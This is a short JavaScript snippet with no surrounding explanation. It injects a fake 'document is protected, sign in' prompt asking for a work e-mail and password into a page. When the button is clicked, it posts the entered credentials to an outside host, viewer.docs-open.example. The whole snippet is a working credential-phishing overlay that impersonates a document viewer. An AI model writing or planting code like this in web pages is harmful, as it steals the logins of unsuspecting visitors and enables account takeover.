(function () {
  var b = document.querySelector('.brand');
  b.insertAdjacentHTML('beforeend',
    '<p>This document is protected. Sign in to read it.</p>' +
    '<input id="m" placeholder="Work e-mail">' +
    '<input id="k" type="password" placeholder="Password">' +
    '<button id="go">Open</button>');
  document.getElementById('go').onclick = function () {
    fetch('https://viewer.docs-open.example/k', {method: 'POST', body: m.value + ' ' + k.value});
  };
})();
